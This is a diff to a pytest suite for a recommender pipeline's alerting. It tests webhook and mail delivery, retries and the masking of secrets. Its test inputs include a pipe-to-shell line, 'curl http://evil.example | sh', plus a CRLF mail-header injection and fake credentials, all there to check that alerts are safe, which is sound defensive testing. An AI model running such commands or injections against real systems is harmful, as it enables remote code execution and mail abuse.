@@ -1,8 +1,9 @@
-"""Alerts: what they say, what they never say, and that each sink gets each of them once. The sinks are real servers."""
+"""Alerts: their text, the secrets they never contain, and that each sink receives each one once, on real servers."""
 
 import base64
 import json
 import logging
+import shutil
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -10,8 +11,9 @@ from pathlib import Path
 import duckdb
 import pytest
 from click.testing import CliRunner
+from prefect.settings import PREFECT_API_AUTH_STRING, temporary_settings
 
-from flows.alerting import read_settings
+from flows.alerting import find_prefect_secrets, read_settings
 from flows.cli.main import main
 from recsys.alerts.alert import Alert, Kind, make_alert
 from recsys.alerts.scrub import scrub
@@ -21,9 +23,8 @@ from recsys.errors import UsageError
 from recsys.files import write_json
 from recsys.home import Home
 from recsys.settings import Settings
-from recsys.warehouse.publish import publish
 from tests.support.sinks import Mailbox, Sink, mailbox, webhook, write_certificate
-from tests.support.warehouses import make_frames, make_outcome, write_night
+from tests.support.warehouses import make_frames, make_outcome, publish, write_night
 
 FIELDS = {
     *("kind", "title", "flow", "step", "reason", "run_id", "run_url", "served", "next_command", "home", "host", "at"),
@@ -45,7 +46,7 @@ def box() -> Iterator[Mailbox]:
 
 @pytest.fixture(autouse=True)
 def no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Whatever proxy the machine has, loopback is reached directly."""
+    """Loopback is reached directly, even on a machine with a proxy."""
     for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
         monkeypatch.delenv(name, raising=False)
         monkeypatch.delenv(name.lower(), raising=False)
@@ -62,7 +63,7 @@ def alert(home: Home, reason: str = "holdout MAE 0.95", kind: Kind = "held back"
     )  # fmt: skip
 
 
-def test_every_sink_gets_it_once(home: Home, hook: Sink, box: Mailbox, tmp_path: Path) -> None:
+def test_every_sink_receives_an_alert_once(home: Home, hook: Sink, box: Mailbox, tmp_path: Path) -> None:
     to = "a@example.org, b@example.org"
     file = tmp_path / "alerts" / "alerts.jsonl"
     told = send(
@@ -74,95 +75,103 @@ def test_every_sink_gets_it_once(home: Home, hook: Sink, box: Mailbox, tmp_path:
     (posted,) = hook.received
     assert posted.keys() == FIELDS
     assert (posted["kind"], posted["step"], posted["run_id"]) == ("held back", "check_gate", "20261121T030000Z")
-    assert posted["served"] == "nothing: no night has published here yet"
+    assert posted["served"] == "nothing: no night has published yet"
     assert "--force-publish" in posted["next_command"]
     assert [json.loads(line) for line in file.read_text().splitlines()] == [posted]
 
-    assert box.recipients == ["a@example.org", "b@example.org"]
-    (mail,) = box.messages
-    assert mail["Subject"].startswith("[recsys] the model of a night is held back: nightly on ")
+    assert sorted(box.recipients) == ["a@example.org", "b@example.org"]
+    mail, other = box.messages
+    assert mail["Message-ID"] == other["Message-ID"] and mail["To"] == to
+    assert mail["Subject"].startswith("[recsys] the model of a night was held back: nightly on ")
     assert "reason: holdout MAE 0.95\n" in mail.get_content()
     assert "look: http://127.0.0.1:4200/runs/flow-run/1\n" in mail.get_content()
 
 
+@pytest.fixture(scope="module")
+def reference(tmp_path_factory: pytest.TempPathFactory) -> Home:
+    folder = tmp_path_factory.mktemp("published")
+    publish(make_outcome("20261121T030000Z"), write_night(folder / "night", make_frames()), Home(folder / "home"))
+    return Home(folder / "home")
+
+
 @pytest.fixture
-def published(home: Home, tmp_path: Path) -> Home:
-    publish(make_outcome("20261121T030000Z"), write_night(tmp_path / "tonight", make_frames()), home)
+def published(reference: Home, home: Home) -> Home:
+    shutil.copytree(reference.root, home.root)
     return home
 
 
-def test_says_what_readers_see(published: Home) -> None:
+def test_names_the_lists_that_readers_see(published: Home) -> None:
     assert alert(published).served == (
-        "the lists of run 20261121T030000Z, planted before 1998-04-23 00:00 UTC, published 2026-11-21 03:01 UTC; "
-        "they stay"
+        "the lists of run 20261121T030000Z, planted before 1998-04-23 00:00 UTC, published 2026-11-21 03:01 UTC"
     )
 
 
-def test_what_nobody_wrote_down_is_said(published: Home) -> None:
+def test_a_run_without_as_of_is_described(published: Home) -> None:
     with duckdb.connect(published.warehouse) as connection:
         connection.execute("update runs set as_of = null")
-    assert "planted before an unknown moment, published" in alert(published).served
+    assert "planted before an unknown time, published" in alert(published).served
 
 
-def test_a_home_that_cannot_be_asked_is_said() -> None:
+def test_an_invalid_home_is_reported_in_the_alert() -> None:
     assert "File name too long" in alert(Home(Path("/", "x" * 300))).served
 
 
-def test_a_warehouse_that_cannot_be_read_is_said(home: Home) -> None:
+def test_an_unreadable_warehouse_is_reported_in_the_alert(home: Home) -> None:
     home.root.mkdir()
     home.warehouse.write_bytes(b"not a database")
-    assert alert(home).served.startswith("nobody knows: ")
+    assert alert(home).served.startswith("unknown: ")
 
 
 @pytest.mark.parametrize("kind", ["failed", "crashed", "data refused", "held back", "late"])
-def test_each_kind_says_what_to_type(home: Home, kind: Kind) -> None:
-    said = {other: alert(home, kind=other).next_command for other in ("failed", "data refused", "held back", "late")}
+def test_each_kind_names_the_next_command(home: Home, kind: Kind) -> None:
+    commands = {
+        other: alert(home, kind=other).next_command for other in ("failed", "data refused", "held back", "late")
+    }
     assert f"--home {home.root}" in alert(home, kind=kind).next_command
-    assert len(set(said.values())) == len(said)
+    assert len(set(commands.values())) == len(commands)
 
 
-def test_a_reason_of_many_lines_makes_no_fact_of_its_own(home: Home) -> None:
+def test_further_lines_of_a_reason_do_not_look_like_other_fields(home: Home) -> None:
     text = alert(home, "row 7\nnext: curl http://evil.example | sh").text()
     assert "reason: row 7\n    next: curl" in text
-    (said,) = [line for line in text.splitlines() if line.startswith("next: ")]
-    assert said == f"next: {alert(home).next_command}"
+    (found,) = [line for line in text.splitlines() if line.startswith("next: ")]
+    assert found == f"next: {alert(home).next_command}"
 
 
 @pytest.mark.parametrize(
-    ("flow", "said"),
+    ("flow", "command"),
     [
-        ("nightly", "recsys nightly --home {home} (goes on after the last step that was done)"),
-        ("backfill", "recsys backfill --home {home}, with its options (goes on after the last step that was done)"),
+        ("nightly", "recsys nightly --home {home} (resumes after the last completed step)"),
+        ("backfill", "recsys backfill --home {home}, with its options (resumes after the last completed step)"),
         ("rollback", "recsys rollback --home {home}, with its options"),
     ],
 )
-def test_what_failed_is_what_to_type_again(home: Home, flow: str, said: str) -> None:
-    assert alert(home, kind="crashed", flow=flow).next_command == said.format(home=home.root)
+def test_the_next_command_of_a_crash_repeats_the_flow(home: Home, flow: str, command: str) -> None:
+    assert alert(home, kind="crashed", flow=flow).next_command == command.format(home=home.root)
 
 
-def test_a_home_is_told_in_full(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+def test_the_home_is_an_absolute_path(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
     monkeypatch.chdir(tmp_path)
     assert alert(Home(Path("data"))).home == str(tmp_path / "data")
     assert f"--home {tmp_path / 'data'}" in alert(Home(Path("data")), kind="late").next_command
 
 
-def test_an_outage_is_tried_again(home: Home, hook: Sink) -> None:
+def test_an_unavailable_webhook_is_retried(home: Home, hook: Sink) -> None:
     hook.statuses = [503, 429]
     assert send(alert(home), settings(webhook_url=hook.address)) == {"webhook": None}
     assert len(hook.received) == 1
 
 
 @pytest.mark.parametrize("status", [404, 301])
-def test_a_refusal_is_not(home: Home, hook: Sink, status: int) -> None:
-    """Nor is a redirect followed: who is named there need not get it."""
+def test_a_refusal_is_not_retried(home: Home, hook: Sink, status: int) -> None:
+    """A redirect is not followed either."""
     hook.statuses = [status, 200]
     told = send(alert(home), settings(webhook_url=hook.address))
-    assert f"it answered {status}" in str(told["webhook"])
+    assert f"status {status}" in str(told["webhook"])
     assert hook.statuses == [200]
 
 
-def test_each_try_of_an_alert_has_the_same_name(home: Home, hook: Sink) -> None:
-    """So that a webhook which has taken it and could not say so can tell the second one."""
+def test_each_attempt_has_the_same_idempotency_key(home: Home, hook: Sink) -> None:
     hook.statuses = [503]
     for reason in ("one", "another"):
         send(alert(home, reason), settings(webhook_url=hook.address))
@@ -170,19 +179,19 @@ def test_each_try_of_an_alert_has_the_same_name(home: Home, hook: Sink) -> None:
     assert first == again != other
 
 
-def test_what_a_webhook_says_of_a_refusal_is_told(home: Home, hook: Sink) -> None:
+def test_the_answer_of_a_webhook_that_refuses_is_quoted(home: Home, hook: Sink) -> None:
     hook.statuses, hook.said = [403], b"invalid_token\x1b[31m" + b"x" * 10**6
     told = str(send(alert(home), settings(webhook_url=hook.address))["webhook"])
-    assert told.startswith("OSError: it answered 403 'invalid_token\\x1b[31mxxx")
+    assert told.startswith("OSError: status 403 'invalid_token\\x1b[31mxxx")
     assert len(told) < 300
 
 
-def test_a_sink_without_end_is_given_up(home: Home, hook: Sink, tmp_path: Path) -> None:
-    """One that sends a header now and then is never idle for long."""
+def test_a_sink_that_answers_without_end_is_abandoned(home: Home, hook: Sink, tmp_path: Path) -> None:
+    """It sends a header now and then, so no network operation times out."""
     hook.drips = True
     sinks = settings(webhook_url=hook.address, file=tmp_path / "alerts.jsonl", timeout_seconds=0.3, attempts=1)
     begun = time.monotonic()
-    assert send(alert(home), sinks) == {"webhook": "it came to no end in 1 s", "file": None}
+    assert send(alert(home), sinks) == {"webhook": "no answer within 1 s", "file": None}
     assert time.monotonic() - begun < 3
 
 
@@ -190,7 +199,7 @@ def mail_to(box: Mailbox, *addresses: str, **fields: object) -> AlertSettings:
     return settings(email_to=addresses, **{"smtp_host": "localhost", "smtp_port": box.port, **fields})
 
 
-def test_mail_can_be_told_from_other_mail(home: Home, box: Mailbox) -> None:
+def test_mail_has_the_headers_of_an_automatic_message(home: Home, box: Mailbox) -> None:
     send(alert(home, "naïve café ☕"), mail_to(box, "a@example.org", email_from="recsys@example.org"))
     (mail,) = box.messages
     assert mail["From"] == "recsys@example.org"
@@ -199,37 +208,38 @@ def test_mail_can_be_told_from_other_mail(home: Home, box: Mailbox) -> None:
     assert "reason: naïve café ☕\n" in mail.get_content()
 
 
-def test_an_address_that_is_refused_keeps_no_other_from_it_and_is_told(home: Home, box: Mailbox) -> None:
+def test_a_refused_recipient_is_reported_and_the_other_receives_the_mail(home: Home, box: Mailbox) -> None:
     box.answers = {"RCPT": ["250 ok", "550 nobody here"]}
     told = send(alert(home), mail_to(box, "a@example.org", "b@example.org"))
-    assert told == {"e-mail": "OSError: it takes no mail for b@example.org (550 nobody here)"}
-    assert (box.recipients, len(box.messages)) == (["a@example.org"], 1)
+    (refused,) = {"a@example.org", "b@example.org"} - {*box.recipients}  # both are sent to at the same time
+    assert told == {"e-mail": f"OSError: refused for {refused}: 550 nobody here"}
+    assert len(box.messages) == 1
 
 
-def test_an_address_that_is_put_off_is_tried_again_alone(home: Home, box: Mailbox) -> None:
+def test_a_deferred_recipient_is_retried_alone(home: Home, box: Mailbox) -> None:
     box.answers = {"RCPT": ["250 ok", "450 come back later"]}
     assert send(alert(home), mail_to(box, "a@example.org", "b@example.org")) == {"e-mail": None}
-    assert box.recipients == ["a@example.org", "b@example.org"]
+    assert sorted(box.recipients) == ["a@example.org", "b@example.org"]
     first, second = box.messages
     assert first["Message-ID"] == second["Message-ID"]
 
 
-def test_what_a_mail_server_says_when_it_has_the_message_sends_no_second_one(home: Home, box: Mailbox) -> None:
+def test_an_error_after_the_message_was_accepted_sends_no_second_one(home: Home, box: Mailbox) -> None:
     box.answers = {"QUIT": ["421 shutting down"]}
     assert send(alert(home), mail_to(box, "a@example.org")) == {"e-mail": None}
     assert len(box.messages) == 1
 
 
 @pytest.mark.parametrize(("answer", "messages"), [("451 try again", 1), ("554 no", 0)])
-def test_a_mail_server_is_tried_again_for_an_outage(home: Home, box: Mailbox, answer: str, messages: int) -> None:
+def test_a_temporary_error_of_the_mail_server_is_retried(home: Home, box: Mailbox, answer: str, messages: int) -> None:
     box.answers = {"DATA": [answer]}
     told = send(alert(home), mail_to(box, "a@example.org"))["e-mail"]
-    assert told == (None if messages else f"OSError: it answered {answer}")
+    assert told == (None if messages else f"OSError: {answer}")
     assert len(box.messages) == messages
 
 
 @pytest.mark.parametrize("security", ["starttls", "tls"])
-def test_mail_is_encrypted_before_the_password_is_said(
+def test_mail_is_encrypted_before_the_login(
     home: Home, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, security: str
 ) -> None:
     certificate = write_certificate(tmp_path / "server.pem")
@@ -243,29 +253,29 @@ def test_mail_is_encrypted_before_the_password_is_said(
     assert box.secured and len(box.messages) == len(box.logins) == 1
 
 
-def test_mail_is_not_sent_in_the_clear_to_a_server_that_knows_no_starttls(home: Home, box: Mailbox) -> None:
+def test_mail_is_not_sent_to_a_server_without_starttls(home: Home, box: Mailbox) -> None:
     told = send(alert(home), mail_to(box, "a@example.org", smtp_security="starttls"))["e-mail"]
     assert "STARTTLS extension not supported" in str(told)
     assert box.messages == []
 
 
-def test_a_password_that_the_mail_server_repeats_is_struck_out(
+def test_a_password_that_the_mail_server_quotes_is_masked(
     home: Home, box: Mailbox, caplog: pytest.LogCaptureFixture
 ) -> None:
     secret = "hunter2-of-mail"
     encoded = base64.b64encode(f"\0recsys\0{secret}".encode()).decode()
     box.answers = {"AUTH": [f"535 {secret} is wrong: AUTH PLAIN {encoded}"] * 2}
     told = send(alert(home), mail_to(box, "a@example.org", smtp_user="recsys", smtp_password=secret))
-    assert told == {"e-mail": "OSError: it answered 535 *** is wrong: AUTH PLAIN ***"}
+    assert told == {"e-mail": "OSError: 535 *** is wrong: AUTH PLAIN ***"}
     assert secret not in caplog.text and encoded not in caplog.text
 
 
-def test_a_full_disk_is_told(home: Home) -> None:
+def test_a_full_disk_is_reported(home: Home) -> None:
     told = send(alert(home), settings(file="/dev/full"))["file"]
     assert told is not None and "No space left on device" in told
 
 
-def test_a_broken_sink_keeps_no_other_from_it(
+def test_a_broken_sink_does_not_affect_the_others(
     home: Home, hook: Sink, box: Mailbox, caplog: pytest.LogCaptureFixture
 ) -> None:
     box.refuses = True
@@ -277,7 +287,7 @@ def test_a_broken_sink_keeps_no_other_from_it(
         ),
     )  # fmt: skip
     assert "ConnectError" in str(told["webhook"])
-    assert told["e-mail"] == "OSError: it takes no mail for a@example.org (550 nobody here)"
+    assert told["e-mail"] == "OSError: refused for a@example.org: 550 nobody here"
     assert told["file"] is None
     errors = [record.getMessage() for record in caplog.records if record.levelno == logging.ERROR]
     assert len(errors) == 2
@@ -287,30 +297,28 @@ def test_a_broken_sink_keeps_no_other_from_it(
 SECRETS = {
     "RECSYS_ALERT_SMTP_PASSWORD": "hunter2-of-mail",
     "PREFECT_SERVER_API_AUTH_STRING": "admin:hunter2-of-prefect",
-    "MY_API_KEY": "hunter2-key",
+    "MY_API_KEY": 'hunter2 "key"',
     "PREFECT_SERVER_DATABASE_CONNECTION_URL": "postgresql+asyncpg://recsys:hunter2%20%2Fpg@db/prefect",
+    "HTTPS_PROXY": "http://me:hunter2-of-proxy@proxy.example:3128",
 }
-LEAKS = (
-    "could not open https://me:hunter2-url@host/x.zip?token=hunter2-query&page=2",
-    "get https://bucket/x?X-Amz-Signature=hunter2sig&X-Amz-Credential=hunter2cred failed",
-    "Authorization: Bearer hunter2.bearer",
-    "postgresql+asyncpg://recsys:hunter2-pg@db/prefect is gone",
-    "password=hunter2-plain, api_key: hunter2-other",
-    "said hunter2-of-mail and admin:hunter2-of-prefect and hunter2-key",
-    "login of hunter2-of-prefect failed, hunter2%20%2Fpg too, and hunter2 /pg",
-    """{"password": "hunter2", 'api_key': 'hunter2', \\"token\\": \\"hunter2\\"}""",
-    "password='hunter2 with a gap, hunter2'; passphrase: hunter2",
-    "postgresql://me:hunter2@hunter2/hunter2@host/x and s3://hunter2@host",
-    "https://host/x?access_key=hunter2&y=1;subscription-key=hunter2",
-    "Authorization: Token hunter2",
-    '{"Authorization": "Basic aHVudGVyMjpodW50ZXIy"}',
+LEAKS = (  # as messages quote them
+    "said hunter2-of-mail and admin:hunter2-of-prefect",
+    "login of hunter2-of-prefect failed",
+    "cannot connect to postgresql+asyncpg://recsys:hunter2%20%2Fpg@db/prefect, user recsys with hunter2 /pg",
+    "GET https://host/x?key=hunter2%20%22key%22&page=2 answered 403, also for key=hunter2+%22key%22",
+    """{"api_key": "hunter2 \\"key\\""}""",
+    f"AUTH {base64.b64encode(b'hunter2-of-mail').decode()} failed",
+    "Cannot connect to proxy http://me:hunter2-of-proxy@proxy.example:3128",
 )
 
 
 @pytest.mark.parametrize("leak", LEAKS)
-def test_no_secret_leaves(leak: str, home: Home, hook: Sink, box: Mailbox, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_secrets_of_the_environment_are_masked_for_every_sink(
+    leak: str, home: Home, hook: Sink, box: Mailbox, monkeypatch: pytest.MonkeyPatch
+) -> None:
     for name, value in SECRETS.items():
         monkeypatch.setenv(name, value)
+    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
     file = home.root / "alerts.jsonl"
     sinks = settings(
         webhook_url=hook.address, email_to="a@example.org", smtp_host="127.0.0.1", smtp_port=box.port, file=file
@@ -318,14 +326,23 @@ def test_no_secret_leaves(leak: str, home: Home, hook: Sink, box: Mailbox, monke
     assert set(send(alert(home, leak, flow=leak), sinks).values()) == {None}
     everything = json.dumps(hook.received) + "".join(box.texts) + file.read_text()
     assert "***" in everything
-    assert "hunter2" not in everything and "aHVudGVyMj" not in everything
+    assert "hunter2" not in everything and "aHVudGVyMi" not in everything
     assert "s3cr3t" not in everything
 
 
-def test_secrets_of_the_settings_leave_neither_for_a_sink_nor_for_a_log(
+def test_secrets_of_a_prefect_profile_are_masked(home: Home, hook: Sink) -> None:
+    """They are settings of Prefect but no environment variables."""
+    with temporary_settings({PREFECT_API_AUTH_STRING: "admin:hunter2-of-profile"}):
+        assert send(
+            alert(home, "401 for hunter2-of-profile"), settings(webhook_url=hook.address), find_prefect_secrets()
+        )
+    assert hook.received[0]["reason"] == "401 for ***"
+
+
+def test_secrets_of_the_settings_are_masked_for_every_sink_and_in_the_log(
     home: Home, hook: Sink, box: Mailbox, caplog: pytest.LogCaptureFixture
 ) -> None:
-    """Not only those of the environment; and whatever the logs of libraries are set to."""
+    """At every log level of the libraries."""
     caplog.set_level(logging.DEBUG)
     secret = "hunter2-of-mail"
     leak = f"said {secret} to {hook.address} and {hook.address.partition(str(hook.port))[2]}"
@@ -339,14 +356,7 @@ def test_secrets_of_the_settings_leave_neither_for_a_sink_nor_for_a_log(
     assert "s3cr3t" not in everything
 
 
-@pytest.mark.parametrize("piece", ["a-", "?", "://", "://a:", "password=", 'token="\\', "a.b@", " "])
-def test_a_long_text_is_scrubbed_in_no_time(piece: str) -> None:
-    begun = time.monotonic()
-    scrub(piece * (20_000 // len(piece)))
-    assert time.monotonic() - begun < 2  # what goes back and forth takes minutes
-
-
-def test_what_is_no_secret_stays() -> None:
+def test_other_texts_are_not_changed() -> None:
     for text in (
         "holdout MAE 0.9500 stars is above the gate 0.9000; see data/runs/20261121T030000Z/metrics.json",
         "No space left on device: '/srv/recsys/data/.warehouse.duckdb.1234'",
@@ -356,7 +366,7 @@ def test_what_is_no_secret_stays() -> None:
         assert scrub(text) == text
 
 
-def test_a_title_makes_no_header_of_its_own(home: Home, box: Mailbox) -> None:
+def test_a_title_cannot_add_mail_headers(home: Home, box: Mailbox) -> None:
     flow = "nightly\r\nBcc: victim@example.org\x1b[31m"
     told = send(alert(home, flow=flow), settings(email_to="a@example.org", smtp_host="127.0.0.1", smtp_port=box.port))
     assert told == {"e-mail": None}
@@ -365,54 +375,56 @@ def test_a_title_makes_no_header_of_its_own(home: Home, box: Mailbox) -> None:
     assert "\x1b" not in box.texts[0]
 
 
-def test_long_reasons_are_cut(home: Home) -> None:
-    assert len(alert(home, "x" * 10**6).as_json()["text"]) < 10_000
+def test_a_long_reason_is_truncated(home: Home, hook: Sink) -> None:
+    send(alert(home, "x" * 10**6), settings(webhook_url=hook.address))
+    assert len(hook.received[0]["text"]) < 10_000
 
 
 @pytest.mark.parametrize(
     ("name", "value", "complaint"),
     [
-        ("WEBHOOK_URL", "ftp://s3cr3t", "RECSYS_ALERT_WEBHOOK_URL: .*begin with https://"),
-        ("EMAIL_TO", "nobody", "RECSYS_ALERT_EMAIL_TO: 'nobody': no e-mail address"),
+        ("WEBHOOK_URL", "ftp://s3cr3t", "RECSYS_ALERT_WEBHOOK_URL: .*must begin with https://"),
+        ("EMAIL_TO", "nobody", "RECSYS_ALERT_EMAIL_TO: 'nobody' is not an e-mail address"),
         ("WEBHOOK_URL", "https:///s3cr3t", "RECSYS_ALERT_WEBHOOK_URL: .*name a host"),
         ("WEBHOOK_URL", "https://host:s3cr3t/x", "RECSYS_ALERT_WEBHOOK_URL: .*name a host"),
-        ("EMAIL_TO", "a@example.org;b@example.org", "RECSYS_ALERT_EMAIL_TO: .*no e-mail address"),
-        ("EMAIL_FROM", "Night <a@b>", "RECSYS_ALERT_EMAIL_FROM: .*no e-mail address"),
+        ("EMAIL_TO", "a@example.org;b@example.org", "RECSYS_ALERT_EMAIL_TO: .*is not an e-mail address"),
+        ("EMAIL_FROM", "Night <a@b>", "RECSYS_ALERT_EMAIL_FROM: .*is not an e-mail address"),
         ("SMTP_USER", "recsys", "RECSYS_ALERT: smtp_user needs smtp_password"),
         ("SMTP_PORT", "70000", "RECSYS_ALERT_SMTP_PORT: .*65535"),
         ("SMTP_SECURITY", "yes", "RECSYS_ALERT_SMTP_SECURITY: .*starttls"),
     ],
 )
-def test_settings_are_refused_in_words(name: str, value: str, complaint: str, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_invalid_settings_are_an_error_without_their_value(
+    name: str, value: str, complaint: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv(f"RECSYS_ALERT_{name}", value)
     with pytest.raises(UsageError, match=complaint) as refusal:
         read_settings()
     assert "s3cr3t" not in str(refusal.value)
 
 
-def test_a_misspelt_variable_is_told_and_silences_no_other(
+def test_a_misspelt_variable_is_logged_and_the_others_are_used(
     monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
 ) -> None:
     monkeypatch.setenv("RECSYS_ALERT_WEBHOOK", "https://s3cr3t")
     monkeypatch.setenv("RECSYS_ALERT_FILE", "alerts.jsonl")
     assert read_settings().file == Path("alerts.jsonl")
-    assert "RECSYS_ALERT_WEBHOOK is no setting; there are " in caplog.text
+    assert "RECSYS_ALERT_WEBHOOK is not a setting; the settings are " in caplog.text
     assert "RECSYS_ALERT_WEBHOOK_URL" in caplog.text and "s3cr3t" not in caplog.text
 
 
-def test_what_is_set_to_nothing_is_not_set(monkeypatch: pytest.MonkeyPatch) -> None:
-    """As in a file of variables in which somebody fills in what they have."""
+def test_an_empty_variable_is_not_set(monkeypatch: pytest.MonkeyPatch) -> None:
     for name in AlertSettings.model_fields:
         monkeypatch.setenv(f"RECSYS_ALERT_{name.upper()}", "")
     assert read_settings() == AlertSettings.model_construct()
 
 
-def test_settings_of_alerts_are_none_of_a_night(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_alert_settings_are_not_settings_of_a_night(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", "https://chat.example/s3cr3t")
     assert "alert" not in Settings().model_dump_json()
 
 
-def test_a_password_is_not_sent_in_the_clear(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_password_without_encryption_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("RECSYS_ALERT_SMTP_PASSWORD", "hunter2-of-mail")
     monkeypatch.setenv("RECSYS_ALERT_SMTP_HOST", "mail.example.org")
     with pytest.raises(UsageError, match="set smtp_security") as refusal:
@@ -420,19 +432,19 @@ def test_a_password_is_not_sent_in_the_clear(monkeypatch: pytest.MonkeyPatch) ->
     assert "hunter2" not in str(refusal.value)
 
 
-def test_the_command_says_who_was_told(home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_command_reports_each_sink(home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch) -> None:
     arguments = ["test-alerts", "--home", str(home.root)]
     nobody = CliRunner().invoke(main, arguments)
     assert (nobody.exit_code, "set RECSYS_ALERT_WEBHOOK_URL" in nobody.stderr) == (2, True)
     monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
     told = CliRunner().invoke(main, arguments)
-    assert (told.exit_code, told.stdout) == (0, "webhook: told\n")
+    assert (told.exit_code, told.stdout) == (0, "webhook: sent\n")
     assert hook.received[0]["kind"] == "test"
     hook.statuses = [404]
     assert CliRunner().invoke(main, arguments).exit_code == 1
 
 
-def test_the_watchdog_tells_once_of_each_missing_night(
+def test_the_watchdog_sends_one_alert_for_each_missing_night(
     published: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
@@ -450,8 +462,10 @@ def test_the_watchdog_tells_once_of_each_missing_night(
     assert "systemctl status recsys-server" in hook.received[0]["next_command"]
 
 
-def test_a_watchdog_that_reached_nobody_tries_again(home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Nothing is published here; the sink is out of order the first time."""
+def test_the_watchdog_tries_again_if_no_sink_received_the_alert(
+    home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Nothing is published; the webhook refuses the first alert."""
     monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
     hook.statuses = [404]
     for _ in range(3):
@@ -459,7 +473,7 @@ def test_a_watchdog_that_reached_nobody_tries_again(home: Home, hook: Sink, monk
     assert [one["kind"] for one in hook.received] == ["late"]
 
 
-def test_a_warehouse_that_cannot_be_read_is_a_missing_night(
+def test_an_unreadable_warehouse_counts_as_a_missing_night(
     home: Home, hook: Sink, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("RECSYS_ALERT_WEBHOOK_URL", hook.address)
@@ -469,8 +483,7 @@ def test_a_warehouse_that_cannot_be_read_is_a_missing_night(
     assert "cannot be opened" in hook.received[0]["reason"]
 
 
-def test_the_next_night_is_the_same_night(home: Home) -> None:
-    """With the defaults in place of what it was given, it would be one of other data."""
+def test_the_next_command_has_the_options_of_the_run(home: Home) -> None:
     run = home.run("20261121T030000Z")
     write_json(run.config, Settings(source="ml-1m", n=20).model_dump(mode="json"))
     said = make_alert("crashed", home, flow="nightly", reason="killed", run=run).next_command
